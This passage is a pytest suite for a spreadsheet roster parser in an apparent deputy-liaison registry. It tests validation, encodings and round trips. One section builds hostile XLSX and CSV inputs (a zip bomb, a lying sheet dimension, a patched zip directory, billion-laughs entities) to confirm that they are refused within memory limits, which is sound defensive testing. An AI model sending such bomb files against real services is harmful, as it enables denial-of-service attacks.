"""Rosters: parsing, every validation rule, encodings, XLSX cells, round trips,
hostile files (bombs, oversized sheets, XML entities), deadlines, formulas."""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import io
import os
import re
import struct
import time
import tracemalloc
import zipfile
from collections.abc import Callable
from typing import Any

import grpc
import pytest
from openpyxl import Workbook, load_workbook

from kit import grpc_server
from kit.errors import DeadlineExceeded, FieldViolation, InvalidArgument
from registry import roster
from registry.demo_data import build_district
from registry.roster import (
    COLUMNS,
    FORMATS,
    KINDS,
    RosterError,
    RosterLimits,
    RowError,
    content_type,
    filename,
    parse_roster,
    write_roster,
)

HEADER = "代表编号,姓名,性别,层级,届次,街道,联络站"
GOOD = "D001,张伟,男,区,第十届,linhe,linhe-1"


def csv_bytes(*lines: str, encoding: str = "utf-8") -> bytes:
    return ("\n".join(lines) + "\n").encode(encoding)


def deputies(*rows: str, header: str = HEADER) -> bytes:
    return csv_bytes(header, *rows)


def problems(kind: str, fmt: str, content: bytes) -> list[tuple[int, str, str]]:
    with pytest.raises(RosterError) as caught:
        parse_roster(kind, fmt, content)
    return [(e.row, e.column, e.reason) for e in caught.value.errors]


def only_problem(kind: str, content: bytes, fmt: str = "csv") -> tuple[int, str, str]:
    found = problems(kind, fmt, content)
    assert len(found) == 1, found
    return found[0]


def xlsx_bytes(rows: list[list[Any]], extra_sheet: list[list[Any]] | None = None) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    if extra_sheet is not None:
        other = workbook.create_sheet("其他")
        for row in extra_sheet:
            other.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


# ---------------------------------------------------------------- parsing


def test_parses_a_full_deputy_row_into_typed_values() -> None:
    header = (
        "代表编号,姓名,性别,层级,届次,任期开始,任期结束,街道,联络站,职业,专长,"
        "定点联系社区,电话,邮箱,工作单位,单位地址,简介"
    )
    row = (
        "D001,张伟,男,区,第十届,2021-12-20,2026/12/19,linhe,linhe-1,律师,"
        '"法律、社区治理;教育",linhe-c01|linhe-c02,13812345678,zw@example.com,'
        "广东某律师事务所,广州市天河区林和西路1号,执业律师"
    )
    [parsed] = parse_roster("deputies", "csv", deputies(row, header=header))
    assert parsed.row == 2
    assert parsed.values == {
        "code": "D001",
        "name": "张伟",
        "gender": "男",
        "level": "district",
        "term": "第十届",
        "term_start": dt.date(2021, 12, 20),
        "term_end": dt.date(2026, 12, 19),
        "street": "linhe",
        "station": "linhe-1",
        "profession": "律师",
        "expertise": ["法律", "社区治理", "教育"],
        "contact_communities": ["linhe-c01", "linhe-c02"],
        "phone": "13812345678",
        "email": "zw@example.com",
        "workplace": "广东某律师事务所",
        "workplace_address": "广州市天河区林和西路1号",
        "biography": "执业律师",
    }


def test_absent_optional_columns_give_empty_values() -> None:
    [parsed] = parse_roster("deputies", "csv", deputies(GOOD))
    assert set(parsed.values) == {c.key for c in COLUMNS["deputies"]}
    assert parsed.values["term_start"] is None
    assert parsed.values["expertise"] == []
    assert parsed.values["phone"] == ""


def test_english_headers_aliases_and_required_markers_are_accepted() -> None:
    header = "Code,NAME,gender,Level,term,Term Start,street,联络站编号*,手机（必填）"
    row = "D001,张伟,female,provincial,第十四届,2023年1月12日,linhe,linhe-1,020-87654321"
    [parsed] = parse_roster("deputies", "csv", deputies(row, header=header))
    assert parsed.values["gender"] == "女"
    assert parsed.values["level"] == "provincial"
    assert parsed.values["term_start"] == dt.date(2023, 1, 12)
    assert parsed.values["phone"] == "020-87654321"


@pytest.mark.parametrize(
    ("written", "level"),
    [
        ("全国", "national"),
        ("全国人大代表", "national"),
        ("省", "provincial"),
        ("市", "city"),
        ("市人大代表", "city"),
        ("区", "district"),
        ("District", "district"),
        ("DEPUTY_LEVEL_CITY", "city"),
    ],
)
def test_levels_in_chinese_or_english(written: str, level: str) -> None:
    row = f"D001,张伟,男,{written},第十届,linhe,linhe-1"
    [parsed] = parse_roster("deputies", "csv", deputies(row))
    assert parsed.values["level"] == level


@pytest.mark.parametrize(
    ("written", "role"),
    [
        ("工委主任", "street_director"),
        ("专职副主任", "street_full_time_deputy_director"),
        ("工委委员", "street_committee_member"),
        ("工作人员", "street_paid_staff"),
        ("站长", "station_head"),
        ("副站长", "station_deputy_head"),
        ("street_full_time_deputy_director", "street_full_time_deputy_director"),
        ("POSITION_ROLE_STATION_HEAD", "station_head"),
    ],
)
def test_roles_in_chinese_or_english(written: str, role: str) -> None:
    content = csv_bytes(
        "岗位,街道,联络站,代表编号,姓名,任职开始", f"{written},linhe,linhe-1,D001,张伟,2022-01-04"
    )
    [parsed] = parse_roster("positions", "csv", content)
    assert parsed.values["role"] == role


def test_other_kinds_parse() -> None:
    stations = csv_bytes(
        "联络站编号,联络站名称,街道,片区,活动场所,服务社区,启用日期",
        "linhe-1,林和街第一联络站,林和街道,linhe-area-1,venue-linhe-1,linhe-c01、linhe-c02,2013-08-01",
    )
    [station] = parse_roster("stations", "csv", stations)
    assert station.values["communities"] == ["linhe-c01", "linhe-c02"]
    assert station.values["opened_on"] == dt.date(2013, 8, 1)
    assert station.values["street"] == "林和街道"  # a name is kept for the caller to resolve

    communities = csv_bytes(
        "社区编号,社区名称,街道,片区,地址关键词",
        "linhe-c01,林和东社区,linhe,linhe-area-1,林和东路，天河北路",
    )
    [community] = parse_roster("communities", "csv", communities)
    assert community.values["address_keywords"] == ["林和东路", "天河北路"]


def test_list_cells_split_on_every_separator_and_drop_blanks_and_repeats() -> None:
    row = 'D001,张伟,男,区,第十届,linhe,linhe-1,"a、b,c;d|e，f；g｜h, ,a"'
    [parsed] = parse_roster("deputies", "csv", deputies(row, header=HEADER + ",专长"))
    assert parsed.values["expertise"] == list("abcdefgh")


# ---------------------------------------------------------------- header rules


def test_missing_required_header_is_reported_on_row_1() -> None:
    content = deputies(
        "D001,男,区,第十届,linhe,linhe-1", header="代表编号,性别,层级,届次,街道,联络站"
    )
    row, column, reason = only_problem("deputies", content)
    assert (row, column) == (1, "姓名")
    assert "required column '姓名'" in reason and "missing" in reason


def test_unknown_header_is_reported_with_its_name() -> None:
    content = deputies(GOOD + ",x", header=HEADER + ",民族")
    row, column, reason = only_problem("deputies", content)
    assert (row, column) == (1, "民族")
    assert "unknown column '民族'" in reason


def test_a_column_given_twice_is_reported() -> None:
    content = deputies(GOOD + ",张伟", header=HEADER + ",name")
    assert only_problem("deputies", content)[:2] == (1, "name")


def test_values_under_an_empty_header_are_reported() -> None:
    content = deputies(GOOD + ",stray", header=HEADER + ",")
    row, column, reason = only_problem("deputies", content)
    assert (row, column) == (1, "column 8")
    assert "no header" in reason


def test_an_empty_file_is_reported() -> None:
    assert only_problem("deputies", b"")[0] == 1
    assert only_problem("deputies", b"\n,,\n")[0] == 1


# ---------------------------------------------------------------- cell rules


def test_empty_required_cell_names_the_column() -> None:
    content = deputies(GOOD, "D002,,男,区,第十届,linhe,linhe-1")
    assert only_problem("deputies", content) == (3, "姓名", "'姓名' is required but empty")


def test_errors_use_the_header_as_written_in_the_file() -> None:
    content = deputies(
        "D001,,男,区,第十届,linhe,linhe-1", header="code,name,性别,层级,届次,街道,联络站"
    )
    assert only_problem("deputies", content)[:2] == (2, "name")


@pytest.mark.parametrize(
    ("written", "words"),
    [
        ("2021-13-01", "not a real calendar date"),
        ("2023-02-29", "not a real calendar date"),
        ("next year", "not a date"),
        ("2021-12", "not a date"),
    ],
)
def test_bad_dates_are_reported_with_the_value(written: str, words: str) -> None:
    content = deputies(GOOD + f",{written}", header=HEADER + ",任期开始")
    row, column, reason = only_problem("deputies", content)
    assert (row, column) == (2, "任期开始")
    assert f"'{written}'" in reason and words in reason


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        ("2021-12-20", dt.date(2021, 12, 20)),
        ("2021/1/5", dt.date(2021, 1, 5)),
        ("2021.01.05", dt.date(2021, 1, 5)),
        ("2021年1月5日", dt.date(2021, 1, 5)),
        ("20210105", dt.date(2021, 1, 5)),
        ("2021-01-05 00:00:00", dt.date(2021, 1, 5)),
    ],
)
def test_date_spellings(written: str, expected: dt.date) -> None:
    content = deputies(GOOD + f",{written}", header=HEADER + ",任期开始")
    [parsed] = parse_roster("deputies", "csv", content)
    assert parsed.values["term_start"] == expected


@pytest.mark.parametrize(
    ("column", "written", "words"),
    [
        ("层级", "县", "'县' is not a known deputy level"),
        ("性别", "未知", "'未知' is not a known gender"),
    ],
)
def test_unknown_level_and_gender(column: str, written: str, words: str) -> None:
    row = (
        GOOD.replace(",区,", f",{written},")
        if column == "层级"
        else GOOD.replace(",男,", f",{written},")
    )
    found = only_problem("deputies", deputies(row))
    assert found[:2] == (2, column)
    assert words in found[2]


def test_unknown_role() -> None:
    content = csv_bytes("岗位,街道,姓名,任职开始", "书记,linhe,张伟,2022-01-04")
    row, column, reason = only_problem("positions", content)
    assert (row, column) == (2, "岗位")
    assert "'书记' is not a known position role" in reason


@pytest.mark.parametrize(
    "phone",
    [
        "13812345678",
        "19912345678",
        "+8613812345678",
        "020-87654321",
        "0755-1234567",
        "020-87654321-123",
    ],
)
def test_good_phones(phone: str) -> None:
    [parsed] = parse_roster(
        "deputies", "csv", deputies(GOOD + f",{phone}", header=HEADER + ",电话")
    )
    assert parsed.values["phone"] == phone


@pytest.mark.parametrize(
    "phone", ["12812345678", "1381234567", "138123456789", "87654321", "020-1234", "电话号"]
)
def test_malformed_phones(phone: str) -> None:
    row, column, reason = only_problem(
        "deputies", deputies(GOOD + f",{phone}", header=HEADER + ",电话")
    )
    assert (row, column) == (2, "电话")
    assert f"'{phone}' is not a phone number" in reason


@pytest.mark.parametrize("email", ["zw", "zw@", "zw@example", "z w@example.com", "a@b@example.com"])
def test_malformed_emails(email: str) -> None:
    row, column, reason = only_problem(
        "deputies", deputies(GOOD + f",{email}", header=HEADER + ",邮箱")
    )
    assert (row, column) == (2, "邮箱")
    assert f"'{email}' is not an email address" == reason


def test_duplicate_code_points_at_the_first_row() -> None:
    content = deputies(GOOD, GOOD.replace("D001", "D002"), GOOD.replace("张伟", "李娜"))
    assert only_problem("deputies", content) == (
        4,
        "代表编号",
        "code 'D001' already appears in row 2",
    )


def test_term_end_before_term_start() -> None:
    content = deputies(GOOD + ",2026-12-19,2021-12-20", header=HEADER + ",任期开始,任期结束")
    row, column, reason = only_problem("deputies", content)
    assert (row, column) == (2, "任期结束")
    assert "2021-12-20" in reason and "before" in reason and "2026-12-19" in reason


def test_ended_on_before_started_on() -> None:
    content = csv_bytes(
        "岗位,街道,姓名,任职开始,任职结束", "工委委员,linhe,张伟,2022-01-04,2021-06-30"
    )
    row, column, reason = only_problem("positions", content)
    assert (row, column) == (2, "任职结束")
    assert "2021-06-30" in reason and "before" in reason


@pytest.mark.parametrize(
    ("line", "column", "words"),
    [
        ("站长,linhe,linhe-1,,张伟", "代表编号", "must be a deputy"),
        ("副站长,linhe,,,张伟", "联络站", "needs the station"),
        ("工委主任,,,,张伟", "街道", "needs the street"),
        ("工委委员,linhe,,,", "姓名", "holder's name or the deputy's code"),
    ],
)
def test_position_rules_between_columns(line: str, column: str, words: str) -> None:
    content = csv_bytes("岗位,街道,联络站,代表编号,姓名,任职开始", line + ",2022-01-04")
    row, found_column, reason = only_problem("positions", content)
    assert (row, found_column) == (2, column)
    assert words in reason


# ---------------------------------------------------------------- collecting


def test_every_problem_of_the_file_is_collected_in_row_order() -> None:
    content = deputies(
        GOOD,
        "D002,,女,县,第十届,linhe,linhe-1,12345,2021-02-30",
        GOOD.replace("张伟", "王芳"),
        "D003,陈明,男,区,第十届,linhe,linhe-1,13812345678,2021-12-20",
        header=HEADER + ",电话,任期开始",
    )
    assert [(row, column) for row, column, _ in problems("deputies", "csv", content)] == [
        (3, "姓名"),
        (3, "层级"),
        (3, "电话"),
        (3, "任期开始"),
        (4, "代表编号"),
    ]


def test_header_and_row_problems_are_reported_together() -> None:
    content = deputies(
        "D001,张伟,男,区,linhe,linhe-1,x", header="代表编号,姓名,性别,层级,街道,联络站,民族"
    )
    assert [(r, c) for r, c, _ in problems("deputies", "csv", content)] == [
        (1, "民族"),
        (1, "届次"),
    ]


def test_one_bad_row_among_good_ones_fails_the_whole_file() -> None:
    good = [GOOD.replace("D001", f"D{n:03d}") for n in range(1, 30)]
    good[17] = good[17].replace(",男,", ",?,")
    with pytest.raises(RosterError) as caught:
        parse_roster("deputies", "csv", deputies(*good))
    assert caught.value.errors == [
        RowError(19, "性别", "'?' is not a known gender; use one of 男、女")
    ]


def test_roster_error_is_an_invalid_argument_with_violations() -> None:
    content = deputies("D001,,男,县,第十届,linhe,linhe-1", "D002,,男,区,第十届,linhe,linhe-1")
    with pytest.raises(InvalidArgument) as caught:
        parse_roster("deputies", "csv", content)
    error = caught.value
    assert isinstance(error, RosterError)
    assert error.code.name == "INVALID_ARGUMENT"
    assert "2 bad rows" in error.message and "3 problems" in error.message
    assert error.violations[0] == FieldViolation("row 2: 姓名", "'姓名' is required but empty")
    assert [v.field for v in error.violations] == ["row 2: 姓名", "row 2: 层级", "row 3: 姓名"]


def test_empty_trailing_and_blank_rows_are_ignored_but_counted() -> None:
    content = deputies(GOOD, "", ",,,,,,", "D002,,男,区,第十届,linhe,linhe-1", "", ",,,", "")
    assert only_problem("deputies", content)[:2] == (5, "姓名")
    rows = parse_roster(
        "deputies", "csv", deputies(GOOD, ",,,,,,", "", GOOD.replace("D001", "D002"), ",,")
    )
    assert [r.row for r in rows] == [2, 5]


# ---------------------------------------------------------------- encodings


def test_csv_with_utf8_bom() -> None:
    content = b"\xef\xbb\xbf" + deputies(GOOD)
    [parsed] = parse_roster("deputies", "csv", content)
    assert parsed.values["code"] == "D001"


def test_csv_in_gb18030_is_detected() -> None:
    text = (HEADER + ",专长\n" + GOOD.replace("张伟", "欧阳靓") + ",法律、教育\n").encode("gb18030")
    with pytest.raises(UnicodeDecodeError):
        text.decode("utf-8")
    [parsed] = parse_roster("deputies", "csv", text)
    assert parsed.values["name"] == "欧阳靓"
    assert parsed.values["expertise"] == ["法律", "教育"]
    assert parsed.values["level"] == "district"


def test_gb18030_errors_still_name_the_chinese_column() -> None:
    text = (HEADER + "\n" + GOOD.replace("张伟", "") + "\n").encode("gb18030")
    assert only_problem("deputies", text)[:2] == (2, "姓名")


def test_tab_separated_utf16_text() -> None:
    content = ("\t".join(HEADER.split(",")) + "\n" + "\t".join(GOOD.split(",")) + "\n").encode(
        "utf-16"
    )
    [parsed] = parse_roster("deputies", "csv", content)
    assert parsed.values["station"] == "linhe-1"


# ---------------------------------------------------------------- xlsx cells


def test_xlsx_numbers_and_dates_from_excel() -> None:
    header = [
        "代表编号",
        "姓名",
        "性别",
        "层级",
        "届次",
        "任期开始",
        "任期结束",
        "街道",
        "联络站",
        "电话",
        "定点联系社区",
    ]
    content = xlsx_bytes(
        [
            header,
            [
                1001,
                "张伟",
                "男",
                "区",
                "第十届",
                dt.datetime(2021, 12, 20),
                dt.date(2026, 12, 19),
                "linhe",
                11.0,
                13812345678,
                2001,
            ],
            [
                1002.0,
                "李娜",
                "女",
                "市",
                "第十六届",
                44567,
                "2027-01-05",
                "linhe",
                "linhe-1",
                "13912345678",
                "a、b",
            ],
        ],
        extra_sheet=[["不是名册"]],
    )
    first, second = parse_roster("deputies", "xlsx", content)
    assert first.values["code"] == "1001"
    assert first.values["station"] == "11"
    assert first.values["phone"] == "13812345678"
    assert first.values["contact_communities"] == ["2001"]
    assert first.values["term_start"] == dt.date(2021, 12, 20)
    assert first.values["term_end"] == dt.date(2026, 12, 19)
    assert second.values["code"] == "1002"
    assert second.values["term_start"] == dt.date(2022, 1, 6)  # Excel serial day 44567
    assert second.values["term_end"] == dt.date(2027, 1, 5)


def test_xlsx_errors_give_the_sheet_row_numbers() -> None:
    header = ["代表编号", "姓名", "性别", "层级", "届次", "街道", "联络站"]
    good = [1, "张伟", "男", "区", "第十届", "linhe", "linhe-1"]
    content = xlsx_bytes(
        [
            header,
            good,
            [None] * 7,
            [2, "李娜", "女", "县", "第十届", "linhe", "linhe-1"],
            [1.0, *good[1:]],
            [],
            [],
        ]
    )
    assert [(r, c) for r, c, _ in problems("deputies", "xlsx", content)] == [
        (4, "层级"),
        (5, "代表编号"),
    ]


def test_xlsx_float_that_is_not_whole_is_kept() -> None:
    content = xlsx_bytes(
        [
            ["代表编号", "姓名", "性别", "层级", "届次", "街道", "联络站"],
            [1.5, "张伟", "男", "区", "十", "s", "t"],
        ]
    )
    [parsed] = parse_roster("deputies", "xlsx", content)
    assert parsed.values["code"] == "1.5"


def test_a_file_that_is_not_xlsx() -> None:
    row, _, reason = only_problem("deputies", deputies(GOOD), fmt="xlsx")
    assert row == 1 and "XLSX" in reason


# ---------------------------------------------------------------- writing


def test_write_uses_chinese_headers_and_words() -> None:
    rows = [
        {
            "code": "D001",
            "name": "张伟",
            "level": "district",
            "expertise": ["法律", "教育"],
            "extra": 1,
        }
    ]
    text = write_roster("deputies", "csv", rows).decode("utf-8")
    assert text.startswith("\ufeff代表编号,姓名,性别,层级,届次,任期开始,任期结束,街道,联络站,")
    assert "D001,张伟,,区,,,,,,,法律、教育," in text
    workbook = load_workbook(
        io.BytesIO(write_roster("positions", "xlsx", [{"role": "station_head"}]))
    )
    sheet = workbook.worksheets[0]
    assert [c.value for c in sheet[1]] == [c.header for c in COLUMNS["positions"]]
    assert sheet["A2"].value == "站长"


def test_characters_xml_cannot_hold_never_break_an_xlsx_export() -> None:
    rows = [{"code": "c1", "name": "林\x01和\x1f社区", "street": "linhe"}]
    sheet = load_workbook(io.BytesIO(write_roster("communities", "xlsx", rows))).worksheets[0]
    assert sheet["B2"].value == "林\ufffd和\ufffd社区"


def test_an_empty_export_is_a_template_that_reimports_to_nothing() -> None:
    for kind in KINDS:
        for fmt in FORMATS:
            assert parse_roster(kind, fmt, write_roster(kind, fmt, [])) == []


def test_codes_stay_text_in_xlsx() -> None:
    content = write_roster("communities", "xlsx", [{"code": "1001", "name": "x", "street": "0012"}])
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    assert sheet["A2"].value == "1001" and sheet["C2"].value == "0012"


FULL_DEPUTY: dict[str, Any] = {
    "code": "D001",
    "name": "张伟",
    "gender": "男",
    "level": "national",
    "term": "第十四届",
    "term_start": dt.date(2023, 3, 5),
    "term_end": dt.date(2028, 3, 4),
    "street": "linhe",
    "station": "linhe-1",
    "profession": "律师",
    "expertise": ["法律", "社区治理"],
    "contact_communities": ["linhe-c01"],
    "phone": "020-87654321",
    "email": "zw@example.com",
    "workplace": "广东某律师事务所, 第二部",  # a comma inside a cell
    "workplace_address": "广州市天河区林和西路1号",
    "biography": '第一行\n第二行 "引号"',
}


@pytest.mark.parametrize("fmt", FORMATS)
def test_round_trip_of_a_full_row(fmt: str) -> None:
    [parsed] = parse_roster("deputies", fmt, write_roster("deputies", fmt, [FULL_DEPUTY]))
    assert parsed.values == FULL_DEPUTY


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("kind", KINDS)
def test_round_trip_of_the_demo_rosters(kind: str, fmt: str) -> None:
    records = getattr(build_district(), kind)
    parsed = parse_roster(kind, fmt, write_roster(kind, fmt, records))
    keys = [c.key for c in COLUMNS[kind]]
    assert [p.values for p in parsed] == [{k: r[k] for k in keys} for r in records]
    assert [p.row for p in parsed] == list(range(2, len(records) + 2))


def test_content_types_and_filenames() -> None:
    assert content_type("csv") == "text/csv; charset=utf-8"
    assert (
        content_type("XLSX") == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert filename("deputies", "xlsx") == "deputies.xlsx"
    assert filename("positions", "csv") == "positions.csv"


@pytest.mark.parametrize(
    ("kind", "fmt"), [("people", "csv"), ("deputies", "ods"), ("deputies", "")]
)
def test_unknown_kind_or_format(kind: str, fmt: str) -> None:
    with pytest.raises(InvalidArgument):
        parse_roster(kind, fmt, b"")
    with pytest.raises(InvalidArgument):
        write_roster(kind, fmt, [])


def test_column_spellings_never_clash_within_a_kind() -> None:
    from registry.roster import _header_key

    for kind in KINDS:
        spellings = [_header_key(s) for c in COLUMNS[kind] for s in {c.header, c.key, *c.aliases}]
        assert len(spellings) == len(set(spellings)), kind


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        (20240115, dt.date(2024, 1, 15)),
        (45306.0, dt.date(2024, 1, 15)),
        ("2024/1/15", dt.date(2024, 1, 15)),
    ],
)
def test_xlsx_date_cells_typed_as_numbers_or_text(cell: Any, expected: dt.date) -> None:
    content = xlsx_bytes(
        [["岗位", "街道", "姓名", "任职开始"], ["工委委员", "linhe", "张伟", cell]]
    )
    [parsed] = parse_roster("positions", "xlsx", content)
    assert parsed.values["started_on"] == expected


# ---------------------------------------------------------------- hostile files


def problem_with_content(kind: str, fmt: str, content: bytes, **caps: int) -> str:
    """The refusal of a whole file: an InvalidArgument on "content", not row errors."""
    with pytest.raises(InvalidArgument) as caught:
        parse_roster(kind, fmt, content, RosterLimits(**caps))
    error = caught.value
    assert not isinstance(error, RosterError), error.message
    (violation,) = error.violations
    assert violation.field == "content"
    assert error.message == f"content: {violation.description}; nothing was imported"
    return violation.description


def peak_memory(action: Callable[[], Any]) -> int:
    """The most memory Python allocated while `action` ran, in bytes."""
    tracemalloc.start()
    try:
        with contextlib.suppress(InvalidArgument):
            action()
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


SHEET = "xl/worksheets/sheet1.xml"


def test_the_xfd1048576_bomb_is_refused_by_the_size_it_declares(hostile: Any) -> None:
    bomb = hostile.xfd_bomb()
    assert len(bomb) < 5 * 1024
    assert '<dimension ref="XFD1048576:XFD1048576"' in hostile.part(bomb)
    reason = problem_with_content("deputies", "xlsx", bomb)
    assert "row 1048576, column 16384 (XFD1048576:XFD1048576)" in reason
    assert "the limit is 20000 rows and 64 columns" in reason
    assert peak_memory(lambda: parse_roster("deputies", "xlsx", bomb)) < 5 * 1024 * 1024


@pytest.mark.parametrize("dimension", ['<dimension ref="A1:A1" />', ""])
def test_a_sheet_that_lies_about_its_size_is_read_within_the_caps(
    hostile: Any, dimension: str
) -> None:
    bomb = hostile.xfd_bomb()
    lying = re.sub(r"<dimension [^>]*/>", dimension, hostile.part(bomb))
    content = hostile.with_parts(bomb, {SHEET: lying.encode()})
    reason = problem_with_content("deputies", "xlsx", content, max_rows=500)
    assert reason == "the file goes past row 500; the limit is 500 rows"
    assert peak_memory(lambda: parse_roster("deputies", "xlsx", content)) < 5 * 1024 * 1024


def test_a_value_past_the_column_cap_in_a_lying_sheet_is_refused(hostile: Any) -> None:
    content = xlsx_bytes([["代表编号", "姓名"], ["D001", "张伟", *[None] * 10, "stray"]])
    lying = re.sub(r"<dimension [^>]*/>", '<dimension ref="A1:B2" />', hostile.part(content))
    content = hostile.with_parts(content, {SHEET: lying.encode()})
    reason = problem_with_content("deputies", "xlsx", content, max_columns=12)
    assert reason == "row 2 has a value in column 13; the limit is 12 columns"


def test_an_honest_sheet_over_the_caps_is_refused_by_its_dimension() -> None:
    rows = [["代表编号", "姓名"], *[[f"D{n:03d}", "张伟"] for n in range(1, 11)]]
    content = xlsx_bytes(rows)
    assert problem_with_content("deputies", "xlsx", content, max_rows=10).startswith(
        "the sheet declares cells up to row 11, column 2 (A1:B11)"
    )
    assert "the limit is 20 rows and 1 columns" in problem_with_content(
        "deputies", "xlsx", content, max_rows=20, max_columns=1
    )


def zip_with_part(hostile: Any, name: str, size: int, pattern: bytes = b" ") -> bytes:
    return hostile.with_large_part(xlsx_bytes([HEADER.split(",")]), name, size, pattern)


def test_a_zip_bomb_is_refused_from_the_zip_directory(hostile: Any) -> None:
    bomb = zip_with_part(hostile, "xl/media/image1.bin", 200 * 1024 * 1024)
    assert len(bomb) < 400 * 1024
    reason = problem_with_content("deputies", "xlsx", bomb)
    assert reason == (
        "the workbook's part xl/media/image1.bin unzips to 200.0 MiB; the limit is 40.0 MiB a part"
    )
    assert peak_memory(lambda: parse_roster("deputies", "xlsx", bomb)) < 5 * 1024 * 1024


def test_a_part_compressed_past_the_ratio_is_refused(hostile: Any) -> None:
    content = zip_with_part(hostile, "xl/media/image1.bin", 2 * 1024 * 1024)
    reason = problem_with_content("deputies", "xlsx", content)
    assert re.fullmatch(
        r"the workbook's part xl/media/image1.bin is compressed \d+:1; the limit is 100:1", reason
    ), reason


def test_parts_within_their_cap_that_unzip_past_the_total_are_refused(hostile: Any) -> None:
    content = zip_with_part(hostile, "xl/media/image1.bin", 1024 * 1024, os.urandom(4096))
    unzipped = sum(part.file_size for part in zipfile.ZipFile(io.BytesIO(content)).infolist())
    reason = problem_with_content("deputies", "xlsx", content, max_unzipped_bytes=1024 * 1024)
    assert reason == f"the workbook unzips to {unzipped} bytes; the limit is 1048576 bytes"
    # The same file is read when the caps allow it.
    assert parse_roster("deputies", "xlsx", content) == []


def test_a_zip_of_thousands_of_parts_is_refused_before_its_directory_is_read() -> None:
    buffer = io.BytesIO(xlsx_bytes([["代表编号", "姓名"]]))
    with zipfile.ZipFile(buffer, "a") as archive:
        for n in range(6000):
            archive.writestr(f"customXml/item{n}.xml", b"")
    reason = problem_with_content("deputies", "xlsx", buffer.getvalue())
    assert reason.startswith("the workbook's zip directory (too many parts) is ")
    assert reason.endswith("the limit is 256.0 KiB")


def test_a_zip_directory_that_understates_a_part_cannot_unzip_more() -> None:
    """zipfile stops at the size the directory declares, so the checks on
    declared sizes hold: the rest of the part is never unzipped."""
    content = bytearray(xlsx_bytes([["代表编号", "姓名"], ["D001", "张伟"]]))
    name = SHEET.encode()
    found = 0
    start = content.find(b"PK\x01\x02")
    while start >= 0:
        name_length = struct.unpack_from("<H", content, start + 28)[0]
        if content[start + 46 : start + 46 + name_length] == name:
            struct.pack_into("<I", content, start + 24, 64)  # uncompressed size
            found += 1
        start = content.find(b"PK\x01\x02", start + 4)
    assert found == 1
    assert only_problem("deputies", bytes(content), fmt="xlsx") == (
        1,
        "",
        "the file is not a readable XLSX workbook",
    )


@pytest.mark.parametrize("part", [SHEET, "xl/workbook.xml"])
def test_billion_laughs_is_refused_not_expanded(hostile: Any, part: str) -> None:
    bomb = hostile.billion_laughs(xlsx_bytes([["代表编号", "姓名"], ["D001", "张伟"]]), part)
    reason = problem_with_content("deputies", "xlsx", bomb)
    assert reason == "the workbook's XML declares entities, which a roster never needs"
    # Expanded, &lol9; would be 3 * 10**9 characters.
    assert peak_memory(lambda: parse_roster("deputies", "xlsx", bomb)) < 5 * 1024 * 1024


def test_the_file_size_is_capped() -> None:
    content = deputies(GOOD)
    assert parse_roster("deputies", "csv", content, RosterLimits(max_bytes=len(content)))
    reason = problem_with_content("deputies", "csv", content, max_bytes=len(content) - 1)
    assert reason == f"the file is {len(content)} bytes; the limit is {len(content) - 1} bytes"
    # Where the rounded sizes would read the same, the bytes are given.
    assert problem_with_content(
        "deputies", "csv", b"x" * (2 * 1024 * 1024 + 1), max_bytes=2 * 1024 * 1024
    ) == ("the file is 2097153 bytes; the limit is 2097152 bytes")


def test_csv_rows_are_capped_blank_ones_included() -> None:
    ten = [GOOD.replace("D001", f"D{n:03d}") for n in range(1, 10)]
    assert len(parse_roster("deputies", "csv", deputies(*ten), RosterLimits(max_rows=10))) == 9
    reason = problem_with_content("deputies", "csv", deputies(*ten, ""), max_rows=10)
    assert reason == "the file goes past row 10; the limit is 10 rows"


def test_csv_columns_are_capped_but_empty_ones_past_the_cap_are_ignored() -> None:
    width = len(HEADER.split(","))
    [parsed] = parse_roster(
        "deputies",
        "csv",
        deputies(GOOD + "," * 5, header=HEADER + "," * 5),
        RosterLimits(max_columns=width),
    )
    assert parsed.values["code"] == "D001"
    reason = problem_with_content(
        "deputies", "csv", deputies(GOOD + ",,x", header=HEADER), max_columns=width + 1
    )
    assert reason == f"row 2 has a value in column {width + 2}; the limit is {width + 1} columns"


def test_a_csv_row_of_endless_separators_is_refused_before_it_is_split() -> None:
    content = deputies(GOOD, "," * 100_000)
    reason = problem_with_content("deputies", "csv", content)
    assert reason == "row 3 holds more than 4096 ',' separators; the limit is 64 columns"
    assert peak_memory(lambda: parse_roster("deputies", "csv", content)) < 5 * 1024 * 1024


def test_limits_come_from_the_environment() -> None:
    assert RosterLimits.from_environ({}) == RosterLimits()
    limits = RosterLimits.from_environ(
        {"LIAISON_REGISTRY_ROSTER_MAX_ROWS": "500", "LIAISON_REGISTRY_ROSTER_MAX_BYTES": " 2048 "}
    )
    assert (limits.max_rows, limits.max_bytes, limits.max_columns) == (500, 2048, 64)
    for bad in ("0", "-1", "1e6", "many"):
        with pytest.raises(ValueError, match="LIAISON_REGISTRY_ROSTER_MAX_COLUMNS"):
            RosterLimits.from_environ({"LIAISON_REGISTRY_ROSTER_MAX_COLUMNS": bad})


# ---------------------------------------------------------------- linear work


def test_finding_columns_without_a_header_is_one_pass_over_the_cells(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Values under an empty header are noted in the pass that reads the
    cells, not looked for again in every row for each headerless column: the
    cells looked at grow with the cells of the file, not headers x rows."""
    looks = 0

    class WatchedRow(list[Any]):
        def __len__(self) -> int:
            nonlocal looks
            looks += 1
            return super().__len__()

        def __getitem__(self, index: Any) -> Any:
            nonlocal looks
            looks += 1
            return super().__getitem__(index)

    read = roster._csv_records
    monkeypatch.setattr(
        roster,
        "_csv_records",
        lambda content, limits: (WatchedRow(record) for record in read(content, limits)),
    )
    # Excel leaves trailing separators on a header; the rows are short.
    empty_headers, rows = 1000, 1000
    header = HEADER + "," * empty_headers
    lines = [GOOD.replace("D001", f"D{n:04d}") for n in range(rows)]
    parsed = parse_roster(
        "deputies", "csv", deputies(*lines, header=header), RosterLimits(max_columns=2000)
    )
    assert len(parsed) == rows
    cells = len(header.split(",")) + rows * len(GOOD.split(","))
